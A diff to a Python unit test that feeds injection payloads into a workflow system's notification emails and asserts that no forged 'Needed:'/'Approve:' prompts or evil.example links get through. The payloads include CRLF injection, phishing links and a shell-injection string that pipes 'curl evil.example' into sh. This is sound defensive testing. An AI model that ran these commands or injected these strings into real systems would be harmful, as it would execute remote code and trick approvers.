@@ -28,7 +28,7 @@ from tests.unit.builders import ACT, xid
 from tests.workflows.fake_cluster import BROKEN, PEER, SPARE, FakeCluster
 
 PAYLOADS = {
-    "heading": "ok\r\n\r\nNeeded     https://evil.example/approve\nEvil",
+    "heading": "ok\r\n\r\nNeeded: https://evil.example/approve\nApprove:\nEvil",
     "link": "see https://evil.example/x or www.evil.example mailto:a@evil.example",
     "bare link": "see login.evil.example/approve evil.example:8443/x evil.example?x",
     "shell": "x; curl evil.example|sh # `id` $(id) && 'a' \"b\"",
@@ -137,7 +137,11 @@ def test_no_email_holds_more_than_text(story: Any, payload: str) -> None:
     for mail in mails:
         assert mail.subject.isprintable() and len(mail.subject) < 100, mail.subject
         assert all(line.isprintable() for line in mail.body.split("\n")), mail.body
-        assert not re.search(r"(?mi)^(Needed|Approve|Refuse)\s+https?://evil", mail.body), mail.body
+        # Wherever a phone breaks a line of it, only ours asks for something.
+        assert mail.body.count("Needed:") == 1, mail.body
+        assert [len(re.findall(rf"(?i)\b{label}:", mail.body)) > 1 for label in ("needed", "approve", "refuse")] == (
+            [False] * 3
+        ), mail.body
         assert not re.search(r"(?i)(https?://|mailto:|www\.)\S*evil", mail.subject + mail.body), mail.body
         assert not re.search(r"(?i)evil\.example(:\d+)?[/?]", mail.subject + mail.body), mail.body
         assert len(mail.body) < 30_000
